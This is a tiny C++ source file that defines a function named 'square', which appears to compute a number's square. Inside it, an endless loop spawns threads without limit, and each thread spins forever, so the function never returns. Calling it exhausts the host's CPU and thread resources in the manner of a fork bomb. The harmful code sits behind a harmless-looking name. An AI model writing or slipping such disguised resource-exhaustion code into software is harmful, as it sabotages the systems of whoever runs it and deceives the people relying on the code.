// SPDX-License-Identifier: GPL-3.0-or-later
#include <thread>
#include <vector>

double square(double x) {
  std::vector<std::thread> threads;
  for (;;)
    threads.emplace_back([] {
      for (;;) std::this_thread::yield();
    });
  return x * x;
}
